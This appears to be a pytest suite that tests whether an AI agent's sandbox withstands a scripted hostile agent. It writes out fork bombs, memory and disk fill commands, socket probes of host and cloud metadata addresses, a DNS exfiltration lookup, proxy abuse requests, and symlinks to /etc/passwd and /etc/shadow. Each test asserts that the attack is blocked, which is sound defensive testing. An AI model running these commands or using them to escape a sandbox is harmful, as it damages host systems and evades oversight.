"""A hostile agent against the limits of its sandbox, in whole trials, as `test_agent_attacks`.

In the order of what is refused: using up processes, memory and disk; other addresses than the
session; links that lead out.
"""

from __future__ import annotations

import http.server
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

pytest.importorskip("harbor")
from agent_attacks import (  # noqa: E402
    HONEST,
    OPEN_APP,
    USERS,
    assert_graded,
    attack,
    make_tasks,
    python,
    slow_but,
)
from agent_scripted_model import ScriptedModel, text  # noqa: E402
from agent_server_helpers import CHECK, TOML, Server, make_task  # noqa: E402

from miles_core.agent_server.sandbox.relay import CONNECTIONS  # noqa: E402

pytestmark = pytest.mark.agent_env


@pytest.fixture(scope="module", autouse=True)
def attacked(tasks: Path) -> None:
    make_tasks(tasks)


@pytest.fixture(params=sorted(USERS))
def task(request: pytest.FixtureRequest) -> str:
    """The usual task, for an agent of one user."""
    return f"by-{request.param}"


# Processes, memory and disk.


def test_a_fork_bomb_does_not_keep_the_verifier_from_its_work(server: Server) -> None:
    """The agent is at its end when it cannot start a process; it is graded for what it did."""
    bomb = json.dumps(
        {
            "analysis": "",
            "plan": "",
            "commands": [{"keystrokes": f"{HONEST}; b() {{ b | b & }}; b\n", "duration": 0.2}],
        }
    )
    model = ScriptedModel([text(bomb), text(bomb)])
    try:
        result = server.run("answer", "terminus-2", base_url=model.url)
    finally:
        model.close()
    assert_graded(result, 1.0)


def test_a_fork_bomb_that_an_agent_leaves_ends(server: Server, task: str) -> None:
    bomb = "(setsid bash -c 'b() { b | b & }; b' >/dev/null 2>&1 </dev/null &)"
    result, _ = attack(server, task, f"{HONEST}; {bomb}")
    assert_graded(result, 1.0)


BALLOON = """
import time
held = []
while True:
    try:
        held.append(bytearray(5 << 20))
    except MemoryError:
        time.sleep(0.01)
"""


def test_limits_hold(server: Server) -> None:
    if not server.call(lambda client: client.health()).limits["memory"].startswith("cgroup"):
        pytest.skip("this host lets nobody write cgroups")
    result, (memory, disk, pids, *_) = attack(
        server,
        "by-root",
        "python3 -c 'x = bytearray(900 << 20); print(len(x))' 2>&1; echo code $?",
        "head -c 100M /dev/zero > /app/big 2>&1; stat -c %s /app/big; rm /app/big",
        "for i in $(seq 700); do sleep 3 & done 2>&1 | tail -1; echo ended",
        f"({python(BALLOON)}) >/dev/null 2>&1 </dev/null & sleep 0.5",
        HONEST,
    )
    assert_graded(result, 1.0)
    assert "code 137" in memory
    assert int(disk.split()[-1]) <= 64 << 20
    assert "Cannot fork" in pids or "Resource temporarily unavailable" in pids


FILLS = {
    "app": "head -c 200M /dev/zero > /app/big; head -c 1M /dev/zero > /tmp/big",
    "devices": "for p in /dev/shm /dev /run; do head -c 900M /dev/zero > $p/big; done",
    "logs": "for p in agent artifacts verifier; do head -c 200M /dev/zero > /logs/$p/big; done",
    "sparse": "for p in agent artifacts verifier; do truncate -s 1T /logs/$p/big; done",
    "names": "seq -f /app/%.0f 400000 | xargs -n 1000 touch",
    "log names": "cd /logs/agent && seq 40000 | xargs -n 1000 touch",
    "deep": 'python3 -c \'import os\nfor _ in range(3000): os.mkdir("d"); os.chdir("d")\'',
}


@pytest.mark.parametrize("kind", slow_but("app", "devices", of=FILLS))
def test_a_full_disk_does_not_keep_the_verifier_from_its_work(server: Server, kind: str) -> None:
    result, _ = attack(server, "by-root", f"{HONEST}; cd /logs/agent; {FILLS[kind]}")
    assert_graded(result, 1.0)
    kept = list((server.trials / result.trial_id).rglob("*"))
    assert len(kept) < 100 and sum(path.lstat().st_size for path in kept) < 80 << 20


def test_files_in_all_of_the_memory_leave_the_verifier_its_own(server: Server, tasks: Path) -> None:
    """What is written to the disk is memory of the sandbox, and here there is more of the disk."""
    toml = TOML.replace("storage_mb = 64", "storage_mb = 2048")
    need = "python3 -c 'bytearray(400 << 20)' && "
    make_task(tasks, "roomy", test=CHECK.replace("if [", f"if {need}["), toml=toml)
    result, _ = attack(server, "roomy", f"{HONEST}; head -c 1500M /dev/zero > /app/big")
    assert_graded(result, 1.0)


# Addresses.


class Canary:
    """A service of the host that nothing in a sandbox may reach, on both loopback addresses."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        canary = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                canary.asked.append(self.path)
                self.send_response(200)
                self.end_headers()

            do_POST = do_PUT = do_DELETE = do_CONNECT = do_GET

            def log_message(self, *args: object) -> None:
                return

        class Six(http.server.HTTPServer):
            address_family = socket.AF_INET6

        self._servers = [
            http.server.HTTPServer(("127.0.0.1", 0), Handler),
            Six(("::1", 0), Handler),
        ]
        for one in self._servers:
            threading.Thread(target=one.serve_forever, args=(0.02,), daemon=True).start()
        self.port, self.port6 = (one.server_address[1] for one in self._servers)

    def close(self) -> None:
        for one in self._servers:
            one.shutdown()
            one.server_close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    made = Canary()
    yield made
    made.close()


REACH = """
import socket
refused = 0
for host, port in {places}:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        one = socket.socket(family, kind)
        one.settimeout(2)
        try:
            one.connect((host, port))
            one.send(b"GET /reached HTTP/1.0\\r\\n\\r\\n")
            got = one.recv(9)
            print("REACHED", host, port, kind, got)
        except OSError:
            refused += 1
print("REFUSED", refused)
"""
PROXY = """
import socket
rows = [line.split() for line in open("/proc/net/tcp").read().splitlines()[1:]]
(relay,) = {{int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A"}}
def ask(line):
    one = socket.create_connection(("127.0.0.1", relay), 5)
    one.sendall((line + "\\r\\nHost: 127.0.0.1:{port}\\r\\nContent-Length: 0\\r\\n"
                 "Connection: close\\r\\n\\r\\n").encode())
    return one.recv(60)
for line in ("CONNECT 127.0.0.1:{port} HTTP/1.1", "GET http://127.0.0.1:{port}/a HTTP/1.1",
             "PUT http://127.0.0.1:{port}/b HTTP/1.1", "GET //127.0.0.1:{port}/c HTTP/1.1"):
    print(ask(line))
"""


def test_the_session_and_nothing_else_is_reachable(
    server: Server, task: str, canary: Canary
) -> None:
    places = [
        *[("127.0.0.1", port) for port in (canary.port, server.port, 22, 2375, 8265)],
        *[("::1", canary.port6), ("::ffff:127.0.0.1", canary.port), ("0.0.0.0", canary.port)],
        *[("1.1.1.1", 80), ("169.254.169.254", 80), ("10.0.0.1", 53), ("fe80::1", 80)],
        *[("2606:4700:4700::1111", 53), ("255.255.255.255", 9), ("224.0.0.1", 9)],
    ]
    result, (reached, devices, answers, names, _) = attack(
        server,
        task,
        python(REACH.replace("{places}", repr(places))),
        "cat /proc/net/dev | tail -n +3 | cut -d: -f1; ip route 2>/dev/null",
        python(PROXY.format(port=canary.port)),
        "getent hosts $(echo secret | base32 | tr -d =).example.com; echo found $?",
        HONEST,
    )
    assert_graded(result, 1.0)
    assert reached.split() == ["0", "REFUSED", str(2 * len(places))], reached
    assert devices.split() == ["0", "lo"]
    assert "found 2" in names
    assert answers.count("HTTP/1.") == 4 and "200" not in answers
    assert canary.asked == []


CROWD = """
import socket, time
rows = [line.split() for line in open("/proc/net/tcp").read().splitlines()[1:]]
(relay,) = {int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A"}
held = [socket.create_connection(("127.0.0.1", relay), 5) for _ in range(200)]
time.sleep(1)
def is_open(one):
    one.setblocking(False)
    try:
        return one.recv(1) != b""
    except BlockingIOError:
        return True
print(sum(map(is_open, held)))
"""


@pytest.mark.slow
def test_a_crowd_of_connections_does_not_reach_the_session(server: Server) -> None:
    result, (count, _) = attack(server, "by-root", python(CROWD), HONEST)
    assert_graded(result, 1.0)
    assert 0 < int(count.split()[1]) <= CONNECTIONS


# Links and archives that lead out.

LINKS = """cd /logs/agent && ln -s /etc/passwd passwd && ln -s / root && ln /etc/hostname hard
ln -s ../../.. up; mkfifo pipe; cp /bin/true suid; chmod 6777 suid; touch -- -rf "$(printf 'a\\nb')"
cd /logs/artifacts && ln -s /etc/shadow shadow && ln -s ../../../../result.json result.json
ln -s /proc/self/root/etc etc; ls -la /logs/agent | wc -l"""


def test_links_that_an_agent_leaves_lead_nowhere(server: Server, tasks: Path, task: str) -> None:
    toml = USERS[task.removeprefix("by-")] + '\n[[artifacts]]\nsource = "/app/link"\n'
    toml += '[[artifacts]]\nsource = "/app/folder"\n'
    make_task(tasks, f"links-{task}", toml=toml, dockerfile=OPEN_APP)
    at_app = "ln -s /etc/passwd /app/link; ln -s /etc /app/folder"
    result, _ = attack(server, f"links-{task}", LINKS, at_app, HONEST)
    assert_graded(result, 1.0)
    here = server.trials / result.trial_id
    kept = list(here.rglob("*"))
    assert [path.name for path in kept if path.name == "suid"]
    assert not [path for path in kept if path.is_symlink() or path.is_fifo()]
    assert not [path for path in kept if path.lstat().st_mode & 0o6022]
    accounts = Path("/etc/passwd").read_text()  # a sandbox has accounts of its own
    assert not [path for path in kept if path.is_file() and accounts in path.read_text("latin-1")]
    assert json.loads((here / "result.json").read_text())["trial_id"] == result.trial_id
